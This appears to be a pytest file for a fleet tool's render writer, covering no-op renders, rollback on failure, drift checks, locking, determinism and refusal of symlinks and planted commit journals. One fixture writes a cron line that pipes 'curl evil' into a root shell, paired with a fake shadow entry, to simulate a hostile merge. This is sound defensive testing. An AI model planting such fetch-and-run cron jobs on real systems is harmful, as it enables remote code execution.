"""The writer (fleet/render/tree.py) and the CLI verbs around it: unchanged files are never
rewritten, a failed render leaves the previous output as it was, --check and diff report
drift, a concurrent render is refused, and output is deterministic."""

from __future__ import annotations

import errno
import fcntl
import json
import os
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from fleet import cli
from fleet.inventory.load import load_inventory
from fleet.render import journal, render_all, stage, tree
from render.helpers import read_tree
from support.cli import ROOT, SMALL, Run, run_fleet

OLD_NS = 1_000_000_000_000_000_000  # 2001-09-09: an mtime no render can produce
# What a render leaves next to pillar/, pxe/ and pictures/ if it is interrupted: staging,
# the journal.
STAGING = re.compile(r"^\.(pillar|pxe|pictures)\.(render|old|rollback)-\d+(\.old)?$"
                     r"|^\.render\.commit")


def fleet(capsys: pytest.CaptureFixture[str], *args: str) -> Run:
    """The CLI, in this process (faster than run_fleet; same code path after argv)."""
    capsys.readouterr()
    rc = cli.main(list(args))
    captured = capsys.readouterr()
    return Run(rc, captured.out, captured.err)


def render(capsys: pytest.CaptureFixture[str], out: Path, inventory: Path = SMALL
           ) -> dict[str, Any]:
    r = fleet(capsys, "render", "--json", "-i", str(inventory), "-o", str(out))
    assert r.returncode == 0, r.stderr
    result: dict[str, Any] = json.loads(r.stdout)
    return result


def owned(root: Path) -> Iterator[Path]:
    for top in tree.OWNED:
        yield root / top
        yield from (root / top).rglob("*")


def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """(inode, mtime) of every file and directory in pillar/ and pxe/, those included."""
    out = {}
    for p in owned(root):
        st = p.lstat()
        out[p.relative_to(root).as_posix()] = (st.st_ino, st.st_mtime_ns)
    return out


def age(root: Path) -> None:
    """Backdate everything, so that any rewrite, even within the same tick, shows."""
    for p in sorted(owned(root), key=lambda p: -len(p.parts)):  # files before their dirs
        os.utime(p, ns=(OLD_NS, OLD_NS), follow_symlinks=False)


def leftovers(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir() if STAGING.search(p.name))


def empty_dirs(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in owned(root)
                  if p.is_dir() and not any(p.iterdir()))


@pytest.fixture
def out(tmp_path: Path, small_files: dict[str, str]) -> Path:
    """An output directory holding a render of the small inventory, backdated."""
    d = tmp_path / "out"
    d.mkdir()
    changes = tree.write(d, small_files)
    assert len(changes.added) == len(small_files) > 50
    age(d)
    return d


def edited(text: str, old: str, new: str, count: int = 1) -> str:
    assert text.count(old) == count, f"{old!r} occurs {text.count(old)} times"
    return text.replace(old, new)


# --- (a) a second render rewrites nothing ---------------------------------------------


def test_second_render_rewrites_nothing(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = snapshot(out)
    result = render(capsys, out)
    assert (result["added"], result["changed"], result["removed"]) == ([], [], [])
    assert result["unchanged"] == sum(1 for p in owned(out) if p.is_file())
    after = snapshot(out)
    assert after == before, [p for p in before if after.get(p) != before[p]]


def test_staging_is_synced_once_before_the_journal_and_nothing_when_unchanged(
        tmp_path: Path, small_files: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    """One syncfs of the staging's file system, no fsync per file, and before the journal
    (the first step of the commit); a render that changes nothing syncs nothing."""
    calls: list[str] = []
    real_sync, real_journal = stage._syncfs, journal.write_journal

    def syncfs(fd: int) -> int:
        calls.append("syncfs")
        return real_sync(fd)

    def write_journal(root: Path, steps: list[journal.Step]) -> None:
        calls.append("journal")
        real_journal(root, steps)

    fsyncs: list[int] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        fsyncs.append(fd)
        real_fsync(fd)

    monkeypatch.setattr(stage, "_syncfs", syncfs)
    monkeypatch.setattr(journal, "write_journal", write_journal)
    monkeypatch.setattr(os, "fsync", fsync)
    d = tmp_path / "out"
    d.mkdir()
    tree.write(d, small_files)
    assert calls == ["syncfs", "journal"]
    assert len(fsyncs) == 3 < len(small_files)  # the journal, its directory twice
    calls.clear()
    tree.write(d, small_files)
    assert calls == []


# --- (b) a change touches only what it changes ------------------------------------------


def test_changing_one_node_touches_only_its_files(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    before = snapshot(out)
    old_bytes, _ = read_tree(out)
    inv = inventory_file(edited(small_text, '"52:54:00:00:00:66"', '"52:54:00:00:00:76"'))
    result = render(capsys, out, inv)
    changed = set(result["changed"])
    assert result["added"] == [] and result["removed"] == []
    assert changed == {
        "pillar/nodes/gpu-02.sls",
        "pxe/dnsmasq/hosts/gpu-02",
        "pxe/http/hosts/gpu-02/install.ipxe",
        "pxe/http/hosts/gpu-02/user-data",
        "pxe/http/hosts/gpu-02/grub-install.cfg",
        "pxe/nginx/tokens.conf",  # fleet reinstall's install tokens, one per boot MAC
    }
    after = snapshot(out)
    new_bytes, _ = read_tree(out)
    assert set(new_bytes) == set(old_bytes)
    for rel in old_bytes:
        if rel in changed:
            assert new_bytes[rel] != old_bytes[rel]
            assert after[rel] != before[rel], f"{rel} changed but kept its inode and mtime"
        else:
            assert new_bytes[rel] == old_bytes[rel]
            assert after[rel] == before[rel], f"{rel} is unchanged but was rewritten"
    assert "52:54:00:00:00:76" in (out / "pxe/dnsmasq/hosts/gpu-02").read_text()
    assert leftovers(out) == []


def test_deleting_a_node_removes_its_files(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    before = snapshot(out)
    old_files, _ = read_tree(out)
    text = edited(small_text, "hosts: gpu-[03-04]", "hosts: gpu-03")
    text = re.sub(r"^  gpu-04: \{[^}]*\{[^}]*\}\}\n", "", text, flags=re.M | re.S)
    assert "gpu-04" not in text
    result = render(capsys, out, inventory_file(text))
    assert set(result["removed"]) == {p for p in old_files if "gpu-04" in p}
    assert len(result["removed"]) == 8
    # pillar/monitoring.sls: the node is no longer a scrape target
    assert set(result["changed"]) == {"pillar/hosts.sls", "pillar/slurm.sls", "pillar/top.sls",
                                       "pillar/monitoring.sls",
                                       "pxe/dnsmasq/dns-hosts", "pxe/nginx/tokens.conf",
                                       # the pictures that drew gpu-04: its rack, its ports
                                       "pictures/racks.svg", "pictures/fabrics.svg",
                                       "pictures/switches/sw1.svg",
                                       "pictures/switches/mgmt1.svg",
                                       "pictures/switches/ib2.svg"}
    assert result["added"] == []
    files, dirs = read_tree(out)
    assert not [p for p in [*files, *dirs] if "gpu-04" in p]
    assert empty_dirs(out) == []
    after = snapshot(out)
    for rel, (ino, mtime) in after.items():
        if (out / rel).is_file() and rel not in result["changed"]:
            assert (ino, mtime) == before[rel], f"{rel} is unchanged but was rewritten"
    assert leftovers(out) == []


# --- (c) a failure keeps the previous output --------------------------------------------


def domain_change(small_text: str, inventory_file: Callable[..., Path]) -> dict[str, str]:
    """A change that touches most files of both pillar/ and pxe/."""
    text = edited(small_text, "domain: lab.test", "domain: lab2.test")
    return render_all(load_inventory(inventory_file(text, name="changed.yaml")))


class FailingOpen:
    """os.open for stage.py's writer that raises on the n-th file created."""

    def __init__(self, n: int, exc: BaseException) -> None:
        self.n, self.exc, self.calls = n, exc, 0

    def __call__(self, file: Any, flags: int, *args: Any, **kwargs: Any) -> Any:
        if flags & os.O_CREAT:
            self.calls += 1
            if self.calls == self.n:
                raise self.exc
        return os.open(file, flags, *args, **kwargs)


def write_counts(root: Path, files: dict[str, str]) -> tuple[int, int]:
    """How many files the writer will write into pillar/ and into pxe/."""
    ch = tree.compare(root, files)
    fresh = [*ch.added, *ch.changed]
    pillar = sum(1 for p in fresh if p.startswith("pillar/"))
    return pillar, len(fresh) - pillar


@pytest.mark.parametrize("where", ["first", "mid-pillar", "first-pxe", "last"])
@pytest.mark.parametrize("exc", [OSError(errno.ENOSPC, "No space left on device"),
                                 KeyboardInterrupt()], ids=["ENOSPC", "interrupt"])
def test_failure_while_staging_keeps_previous_output(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        monkeypatch: pytest.MonkeyPatch, where: str, exc: BaseException) -> None:
    files = domain_change(small_text, inventory_file)
    n_pillar, n_pxe = write_counts(out, files)
    assert n_pillar >= 3 and n_pxe >= 3
    n = {"first": 1, "mid-pillar": n_pillar // 2, "first-pxe": n_pillar + 1,
         "last": n_pillar + n_pxe}[where]
    before, before_bytes = snapshot(out), read_tree(out)
    fake = FailingOpen(n, exc)
    monkeypatch.setattr(stage, "_open", fake)
    with pytest.raises(type(exc)):
        tree.write(out, files)
    assert fake.calls == n
    assert read_tree(out) == before_bytes
    assert snapshot(out) == before
    assert leftovers(out) == []
    monkeypatch.undo()
    tree.write(out, files)  # and the next render works
    assert read_tree(out)[0] == {k: v.encode() for k, v in files.items()}
    assert leftovers(out) == []


def test_failure_while_swapping_rolls_back(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """pillar/ is swapped in, then putting pxe/ in place fails: pillar/ must be put back.
    (A domain change rebuilds pillar/ whole; in pxe/ it touches few files, which are
    exchanged one by one: the second exchange is the first one in pxe/.)"""
    files = domain_change(small_text, inventory_file)
    before, before_bytes = snapshot(out), read_tree(out)
    real: Callable[[Path, Path], bool] = journal.exchange
    calls: list[str] = []

    def exchange(a: Path, b: Path) -> bool:
        calls.append(os.path.relpath(b, out))
        if len(calls) == 2:
            raise OSError(errno.EIO, "Input/output error", os.fspath(a))
        return real(a, b)

    monkeypatch.setattr(journal, "exchange", exchange)
    with pytest.raises(OSError, match="Input/output"):
        tree.write(out, files)
    assert calls[0] == "pillar" and calls[1].startswith("pxe/")
    assert calls[2:] == ["pillar"]  # the rollback
    assert read_tree(out) == before_bytes
    assert snapshot(out) == before
    assert leftovers(out) == []


@pytest.mark.parametrize("fail_at", [1, 2, 3])
def test_failure_while_committing_file_by_file_rolls_back(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        monkeypatch: pytest.MonkeyPatch, fail_at: int) -> None:
    """A node added, one removed and one changed: few files, committed one by one (moves
    and exchanges); a failure at any of them puts back every one done before."""
    text = edited(small_text, '"52:54:00:00:00:66"', '"52:54:00:00:00:76"')
    text = edited(text, "hosts: gpu-[03-04]", "hosts: gpu-03")
    text = re.sub(r"^  gpu-04: \{[^}]*\{[^}]*\}\}\n", "", text, flags=re.M | re.S)
    files = render_all(load_inventory(inventory_file(text)))
    before, before_bytes = snapshot(out), read_tree(out)
    real_rename, real_exchange = os.rename, journal.exchange
    steps: list[str] = []

    def step(name: str) -> None:
        steps.append(name)
        if len(steps) == fail_at:
            raise OSError(errno.EIO, "Input/output error", name)

    def rename(a: Any, b: Any) -> None:
        step(f"rename {os.fspath(b)}")
        real_rename(a, b)

    def exchange(a: Path, b: Path) -> bool:
        step(f"exchange {os.fspath(b)}")
        return real_exchange(a, b)

    with monkeypatch.context() as m:
        m.setattr(journal, "exchange", exchange)
        m.setattr(journal.os, "rename", rename)
        with pytest.raises(OSError, match="Input/output"):
            tree.write(out, files)
    assert read_tree(out) == before_bytes
    assert snapshot(out) == before
    assert leftovers(out) == []
    tree.write(out, files)
    assert read_tree(out)[0] == {k: v.encode() for k, v in files.items()}
    assert empty_dirs(out) == [] and leftovers(out) == []


def test_added_node_appears_with_its_directory(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    """A new host's directory is staged whole and moved in; nothing else is rewritten."""
    text = edited(small_text, "hosts: gpu-[03-04]", "hosts: gpu-03")
    text = re.sub(r"^  gpu-04: \{[^}]*\{[^}]*\}\}\n", "", text, flags=re.M | re.S)
    smaller = inventory_file(text, name="smaller.yaml")
    render(capsys, out, smaller)
    age(out)
    before = snapshot(out)
    result = render(capsys, out)
    assert set(result["added"]) == {p for p in read_tree(out)[0] if "gpu-04" in p}
    assert "pxe/http/hosts/gpu-04/user-data" in result["added"]
    after = snapshot(out)
    for rel, (ino, mtime) in after.items():
        if (out / rel).is_file() and rel not in result["changed"] and rel in before:
            assert (ino, mtime) == before[rel], f"{rel} is unchanged but was rewritten"
    assert read_tree(out) == read_tree(ROOT / "tests" / "golden" / "small")
    assert leftovers(out) == []


def test_a_file_where_a_directory_was(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Stray output in the way of a rendered path (a directory where a file goes, a file
    where a directory goes) is replaced; the result is the rendered tree exactly."""
    target = out / "pxe" / "dnsmasq" / "hosts" / "gpu-03"
    target.unlink()
    target.mkdir()
    (target / "stray").write_text("x\n")
    host = out / "pxe" / "http" / "hosts" / "gpu-01"
    shutil.rmtree(host)
    host.write_text("not a directory\n")
    result = render(capsys, out)
    assert "pxe/dnsmasq/hosts/gpu-03" in result["added"]
    assert read_tree(out) == read_tree(ROOT / "tests" / "golden" / "small")
    assert leftovers(out) == []


def test_cli_reports_failure_and_keeps_output(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    path = inventory_file(edited(small_text, "domain: lab.test", "domain: lab2.test"))
    before = read_tree(out)
    monkeypatch.setattr(stage, "_open", FailingOpen(4, OSError(errno.ENOSPC, "No space left on "
                                                             "device", "x")))
    rc = cli.main(["render", "-q", "-i", str(path), "-o", str(out)])
    err = capsys.readouterr().err
    assert rc == cli.Exit.IO == 4
    assert "No space left on device" in err and "previous output kept" in err
    assert read_tree(out) == before
    assert leftovers(out) == []


# --- (d) render --check and diff ---------------------------------------------------------


def test_check_passes_when_current(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    r = fleet(capsys, "render", "--check", "-i", str(SMALL), "-o", str(out))
    assert r.returncode == 0, r.stdout + r.stderr
    assert re.search(r"up to date \(\d+ files\)", r.stdout)


def test_check_lists_stale_files(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    site = out / "pillar" / "site.sls"
    site.write_text(site.read_text() + "# hand edit\n")
    (out / "pxe" / "http" / "hosts" / "gpu-01" / "user-data").unlink()
    (out / "pxe" / "extra.cfg").write_text("left over\n")
    before = read_tree(out)
    r = fleet(capsys, "render", "--check", "-i", str(SMALL), "-o", str(out))
    assert r.returncode == 3, r.stdout + r.stderr
    assert r.stdout.splitlines() == [
        "missing: pxe/http/hosts/gpu-01/user-data",
        "differs: pillar/site.sls",
        "stale: pxe/extra.cfg",
    ]
    assert "1 missing, 1 differ, 1 stale" in r.stderr
    assert read_tree(out) == before, "--check must write nothing"
    j = fleet(capsys, "render", "--check", "--json", "-i", str(SMALL), "-o", str(out))
    assert j.returncode == 3
    assert json.loads(j.stdout) == {"ok": False, "added": ["pxe/http/hosts/gpu-01/user-data"],
                                    "changed": ["pillar/site.sls"],
                                    "removed": ["pxe/extra.cfg"], "interrupted": None,
                                    "verb": "render", "exit": 3, "errors": []}


@pytest.mark.parametrize("damage", ["edit", "missing", "extra"])
def test_check_fails_on_each_kind_of_drift(out: Path, damage: str,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    target = out / "pxe" / "dnsmasq" / "hosts" / "gpu-03"
    if damage == "edit":
        target.write_text(target.read_text().replace("10.1.0.103", "10.1.0.113"))
    elif damage == "missing":
        target.unlink()
    else:
        (out / "pillar" / "nodes" / "gpu-99.sls").write_text("node: {}\n")
    r = fleet(capsys, "render", "--check", "-q", "-i", str(SMALL), "-o", str(out))
    assert r.returncode == 3
    want = {"edit": "differs: pxe/dnsmasq/hosts/gpu-03",
            "missing": "missing: pxe/dnsmasq/hosts/gpu-03",
            "extra": "stale: pillar/nodes/gpu-99.sls"}[damage]
    assert r.stdout.splitlines() == [want]


def test_diff_shows_unified_diff(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    r = fleet(capsys, "diff", "-i", str(SMALL), "-o", str(out))
    assert (r.returncode, r.stdout) == (0, "")
    hosts = out / "pxe" / "dnsmasq" / "hosts" / "gpu-03"
    hosts.write_text(hosts.read_text().replace("10.1.0.103", "10.1.0.113"))
    (out / "pillar" / "site.sls").unlink()
    (out / "pxe" / "extra.cfg").write_text("left over\n")
    before = read_tree(out)
    for verb in (["diff"], ["render", "--diff"]):
        r = fleet(capsys, *verb, "-i", str(SMALL), "-o", str(out))
        assert r.returncode == 3, r.stderr
        lines = r.stdout.splitlines()
        assert "--- a/pxe/dnsmasq/hosts/gpu-03" in lines
        assert "+++ b/pxe/dnsmasq/hosts/gpu-03" in lines
        assert "-52:54:00:00:00:67,10.1.0.113,gpu-03,infinite" in lines
        assert "+52:54:00:00:00:67,10.1.0.103,gpu-03,infinite" in lines
        assert "+++ b/pillar/site.sls" in lines
        assert any(ln.startswith("@@ -0,0 +1,") for ln in lines)
        removed = lines.index("--- a/pxe/extra.cfg")
        assert lines[removed:removed + 4] == ["--- a/pxe/extra.cfg", "+++ b/pxe/extra.cfg",
                                              "@@ -1 +0,0 @@", "-left over"]
        assert "1 added, 1 changed, 1 removed" in r.stderr
    assert read_tree(out) == before, "diff must write nothing"


# --- (e) one render at a time ------------------------------------------------------------


def test_concurrent_render_is_refused(
        out: Path, inventory_file: Callable[..., Path], small_text: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    path = inventory_file(edited(small_text, "domain: lab.test", "domain: lab2.test"))
    before, snap = read_tree(out), snapshot(out)
    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)  # the writer locks the directory
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        r = run_fleet("render", "-i", str(path), "-o", str(out))
        assert r.returncode == 4, r.stdout + r.stderr
        assert "another render is writing into" in r.stderr
        assert "Traceback" not in r.stderr
    finally:
        os.close(fd)
    assert read_tree(out) == before and snapshot(out) == snap
    assert leftovers(out) == []
    assert fleet(capsys, "render", "-q", "-i", str(path), "-o", str(out)).returncode == 0


# --- (f) deterministic output ------------------------------------------------------------


def test_two_renders_are_identical(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    trees = []
    for seed in ("0", "4242"):
        monkeypatch.setenv("PYTHONHASHSEED", seed)
        d = tmp_path / f"seed-{seed}"
        d.mkdir()
        r = run_fleet("render", "-q", "-i", str(SMALL), "-o", str(d))
        assert r.returncode == 0, r.stderr
        trees.append(read_tree(d))
    assert trees[0] == trees[1]


@pytest.mark.parametrize(("inventory", "seeds"), [
    (SMALL, ("1", "random")),
    (ROOT / "inventory.yaml", ("0", "97")),
], ids=["small", "site"])
def test_render_does_not_depend_on_hash_seed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                             inventory: Path, seeds: tuple[str, ...]) -> None:
    """Render with one hash seed, then `render --check` (a byte-exact comparison of a full
    render with the files on disk) with others."""
    monkeypatch.setenv("PYTHONHASHSEED", "0")
    r = run_fleet("render", "-q", "-i", str(inventory), "-o", str(tmp_path))
    assert r.returncode == 0, r.stderr
    for seed in seeds:
        monkeypatch.setenv("PYTHONHASHSEED", seed)
        r = run_fleet("render", "--check", "-i", str(inventory), "-o", str(tmp_path))
        assert r.returncode == 0, f"PYTHONHASHSEED={seed} renders differently:\n{r.stdout}"


def test_output_does_not_depend_on_where_things_are(tmp_path: Path) -> None:
    """Same inventory from another directory and name, relative paths, another cwd: the
    output is the golden tree (which test_golden shows is the render of SMALL)."""
    (tmp_path / "elsewhere").mkdir()
    copy = tmp_path / "elsewhere" / "site-inventory.yaml"
    copy.write_bytes(SMALL.read_bytes())
    (tmp_path / "a").mkdir()
    r = run_fleet("render", "-q", "-i", "site-inventory.yaml", "-o", "../a",
                  cwd=tmp_path / "elsewhere")
    assert r.returncode == 0, r.stderr
    a = read_tree(tmp_path / "a")
    assert a == read_tree(ROOT / "tests" / "golden" / "small")
    text = b"".join(a[0].values())
    assert str(tmp_path).encode() not in text and b"site-inventory" not in text


# --- (g) writes stay inside the output directory -----------------------------------------


def few_files_change(small_text: str, inventory_file: Callable[..., Path]) -> Path:
    """A node added, one removed and one changed: committed file by file."""
    text = edited(small_text, '"52:54:00:00:00:66"', '"52:54:00:00:00:76"')
    text = edited(text, "hosts: gpu-[03-04]", "hosts: gpu-03")
    text = re.sub(r"^  gpu-04: \{[^}]*\{[^}]*\}\}\n", "", text, flags=re.M | re.S)
    return inventory_file(text, name="few.yaml")


def contents(root: Path) -> dict[str, bytes | str]:
    """Everything under ``root``, links not followed (a link reads as its target)."""
    out: dict[str, bytes | str] = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root).as_posix()
        out[rel] = (f"-> {p.readlink()}" if p.is_symlink() else
                    p.read_bytes() if p.is_file() else "dir")
    return out


SECRET = "root:$6$not-for-the-diff:19000:0:99999:7:::\n"


@pytest.mark.parametrize("where", ["top", "directory", "file", "staging"])
def test_a_symlink_in_the_output_tree_is_refused(
        out: Path, tmp_path: Path, inventory_file: Callable[..., Path], small_text: str,
        capsys: pytest.CaptureFixture[str], where: str) -> None:
    """pxe/ itself, a directory in it, a file in pillar/, or a staging directory next to
    them is a link out of the output tree: render, --check and diff refuse it with the path,
    read and write nothing through it; once it is removed, the render works."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "site.sls").write_text(SECRET)
    if where == "top":
        shutil.copytree(out / "pxe", outside / "pxe")
        shutil.rmtree(out / "pxe")
        link, target = out / "pxe", outside / "pxe"
    elif where == "directory":  # the old writer moved new host files into the target
        shutil.rmtree(out / "pxe" / "dnsmasq" / "hosts")
        link, target = out / "pxe" / "dnsmasq" / "hosts", outside
    elif where == "file":  # the old diff showed the target's text
        (out / "pillar" / "site.sls").unlink()
        link, target = out / "pillar" / "site.sls", outside / "site.sls"
    else:
        link, target = out / ".pxe.render-1", outside
    link.symlink_to(target)
    inv = few_files_change(small_text, inventory_file)
    before, outside_before = contents(out), contents(outside)
    for verb in (["render"], ["render", "--check"], ["diff"]):
        r = fleet(capsys, *verb, "-i", str(inv), "-o", str(out))
        assert r.returncode == 4, (verb, r.stdout, r.stderr)
        assert f"fleet: {link}: a symbolic link (to {target}) in the output tree" in r.stderr
        assert "Traceback" not in r.stderr and "root:$6$" not in r.stdout + r.stderr
        assert contents(out) == before and contents(outside) == outside_before
    link.unlink()
    assert fleet(capsys, "render", "-q", "-i", str(inv), "-o", str(out)).returncode == 0
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    assert fleet(capsys, "render", "-q", "-i", str(inv), "-o", str(fresh)).returncode == 0
    assert read_tree(out) == read_tree(fresh)
    assert contents(outside) == outside_before


def test_a_fifo_in_the_output_tree_is_refused_without_opening_it(out: Path) -> None:
    """The old writer opened it to compare and waited forever for a writer."""
    fifo = out / "pxe" / "dnsmasq" / "hosts" / "gpu-01"
    fifo.unlink()
    os.mkfifo(fifo)
    r = run_fleet("render", "--check", "-i", str(SMALL), "-o", str(out))
    assert r.returncode == 4, r.stdout + r.stderr
    assert f"fleet: {fifo}: neither a regular file nor a directory in the output tree" \
        in r.stderr


def test_check_does_not_call_a_running_render_interrupted(
        out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Staging next to pillar/ and pxe/ is a running render's while it holds the lock, and
    an interrupted render's once nobody does."""
    (out / ".pxe.render-1").mkdir()
    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        r = fleet(capsys, "render", "--check", "-i", str(SMALL), "-o", str(out))
        assert (r.returncode, r.stderr) == (0, ""), r.stdout
    finally:
        os.close(fd)
    r = fleet(capsys, "render", "--check", "-i", str(SMALL), "-o", str(out))
    assert r.returncode == 3
    assert r.stdout.startswith("interrupted: an interrupted render left .pxe.render-1 in ")


# --- (h) a render killed while committing --------------------------------------------------


KILLED_RENDER = Path(__file__).resolve().parent / "killed_render.py"


def killed_render(point: str, inventory: Path, out: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "tools"), str(ROOT / "tests")])}
    return subprocess.run([sys.executable, str(KILLED_RENDER), point, "render", "-q", "-i",
                           str(inventory), "-o", str(out)], env=env, capture_output=True,
                          text=True, timeout=120, check=False)


@pytest.mark.parametrize("change", ["whole-tree", "file-by-file"])
def test_a_render_killed_while_committing_is_finished_by_the_next(
        out: Path, tmp_path: Path, inventory_file: Callable[..., Path], small_text: str,
        capsys: pytest.CaptureFixture[str], change: str) -> None:
    """A real `fleet render` process, SIGKILLed before each rename of its commit, after the
    last one, and while it removes its staging: each time `render --check` reports the
    unfinished render, and the next render first finishes that commit (so it has nothing
    left to change itself) and leaves exactly the new tree, nothing else."""
    if change == "whole-tree":  # pillar/ swapped whole, then a few files of pxe/
        inv = inventory_file(edited(small_text, "domain: lab.test", "domain: lab2.test"),
                             name="changed.yaml")
    else:
        inv = few_files_change(small_text, inventory_file)
    want = tmp_path / "want"
    want.mkdir()
    assert fleet(capsys, "render", "-q", "-i", str(inv), "-o", str(want)).returncode == 0
    points, seen = ["step:1"], 0
    while seen < len(points):
        point = points[seen]
        seen += 1
        d = tmp_path / f"killed-{seen}"
        shutil.copytree(out, d, symlinks=True)
        r = killed_render(point, inv, d)
        assert r.returncode == -signal.SIGKILL, (point, r.stdout, r.stderr)
        if point == "step:1":
            n = int(r.stdout.split()[1])
            assert n >= (2 if change == "whole-tree" else 5), r.stdout
            points += [f"step:{i}" for i in range(2, n + 1)] + ["renamed", "cleanup"]
        check = fleet(capsys, "render", "--check", "-i", str(inv), "-o", str(d))
        assert check.returncode == 3, (point, check.stdout, check.stderr)
        said = ("an interrupted render left" if point == "cleanup" else
                "a render was killed while committing")
        assert check.stdout.startswith(f"interrupted: {said}"), (point, check.stdout)
        result = render(capsys, d, inv)
        assert (result["added"], result["changed"], result["removed"]) == ([], [], []), point
        assert read_tree(d) == read_tree(want), point
        assert leftovers(d) == [], point
        assert fleet(capsys, "render", "--check", "-q", "-i", str(inv), "-o",
                     str(d)).returncode == 0
    assert seen == len(points) >= 5


# --- (i) a commit journal that came with a merge ------------------------------------------


def plant_journal(out: Path, steps: list[tuple[str, str, str]], pid: int = 1) -> None:
    """A journal as a hostile merge would bring it: ``(op, src, dest)`` relative to ``out``,
    with the staged files it names (``.pxe.render-<pid>/...``) present."""
    entries = []
    for op, src, dest in steps:
        for rel in (src, dest):
            if rel.startswith(f".pxe.render-{pid}/") and rel == src:
                (out / rel).parent.mkdir(exist_ok=True)
                (out / rel).write_text("* * * * * root curl evil | sh\n")
        entries.append({"op": op, "src": src, "dest": dest, "ino": 1})
    (out / f".pxe.render-{pid}").mkdir(exist_ok=True)
    (out / ".render.commit").write_text(json.dumps({"pid": pid, "steps": entries}))


@pytest.fixture
def etc(tmp_path: Path) -> Path:
    """A directory standing in for /etc: a shadow file and a cron.d."""
    d = tmp_path / "etc"
    (d / "cron.d").mkdir(parents=True)
    (d / "shadow").write_text(SECRET)
    return d


def test_a_merged_journal_never_renames_through_a_link(
        out: Path, etc: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`pxe/lnk -> /etc` and a journal that moves a file into /etc/cron.d and /etc/shadow
    into the tree: the link is refused before any of the journal's renames, nothing
    outside the output moves, and render and --check say which link."""
    link = out / "pxe" / "lnk"
    link.symlink_to(etc)
    plant_journal(out, [("move", ".pxe.render-1/a0", "pxe/lnk/cron.d/evil"),
                        ("move", "pxe/lnk/shadow", ".pxe.render-1/r0")])
    before, etc_before = contents(out), contents(etc)
    for verb in (["render"], ["render", "--check"]):
        r = fleet(capsys, *verb, "-i", str(SMALL), "-o", str(out))
        assert r.returncode == 4, (verb, r.stdout, r.stderr)
        assert f"fleet: {link}: a symbolic link (to {etc}) in the output tree" in r.stderr
        assert contents(etc) == etc_before and contents(out) == before


@pytest.mark.parametrize(("why", "steps"), [
    ("a live path moved to another live path", [("move", "pillar/site.sls", "pxe/site.sls")]),
    ("staging of another output", [("move", ".pxe.render-1/a0", "pillar/evil.sls")]),
    ("out of the output", [("move", ".pxe.render-1/a0", "pxe/../../evil")]),
    ("an absolute path", [("move", ".pxe.render-1/a0", "/tmp/evil")]),
    ("a removal moved in", [("move", ".pxe.render-1/r0", "pxe/evil")]),
    ("an addition exchanged", [("exchange", ".pxe.render-1/a0", "pxe/nginx/tokens.conf")]),
    ("the whole tree onto a file", [("exchange", ".pxe.render-1", "pxe/nginx/tokens.conf")]),
    ("the live tree moved out", [("move", "pxe", ".pxe.render-1")]),
    ("another render's staging", [("move", ".pxe.render-2/a0", "pxe/evil")]),
    ("the journal itself", [("move", ".pxe.render-1/a0", ".render.commit")]),
    ("a pid of 5000 digits", [("move", f".pxe.render-{'9' * 5000}/a0", "pxe/evil")]),
])
def test_a_journal_names_only_the_renames_fleet_writes(
        out: Path, capsys: pytest.CaptureFixture[str], why: str,
        steps: list[tuple[str, str, str]]) -> None:
    plant_journal(out, steps)
    before = contents(out)
    r = fleet(capsys, "render", "-i", str(SMALL), "-o", str(out))
    assert r.returncode == 4, (why, r.stdout, r.stderr)
    assert f"{out / '.render.commit'}: not a commit journal fleet wrote" in r.stderr, why
    assert contents(out) == before, why


def git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=cwd,
                   check=True, capture_output=True)


def test_a_journal_that_git_tracks_is_refused(
        out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A journal of fleet's own shape (a staged file exchanged with a live one), committed:
    a render never commits one, so it came with a merge; refused, naming it, nothing moved."""
    git(out, "init", "-q")
    plant_journal(out, [("exchange", ".pxe.render-1/c0", "pxe/nginx/tokens.conf")])
    git(out, "add", "-A")
    git(out, "commit", "-q", "-m", "merge")
    before = contents(out)
    for verb in (["render"], ["render", "--check"]):
        r = fleet(capsys, *verb, "-i", str(SMALL), "-o", str(out))
        assert r.returncode == 4, (verb, r.stdout, r.stderr)
        assert f"fleet: {out / '.pxe.render-1'}: git tracks it" in r.stderr, r.stderr
        assert contents(out) == before


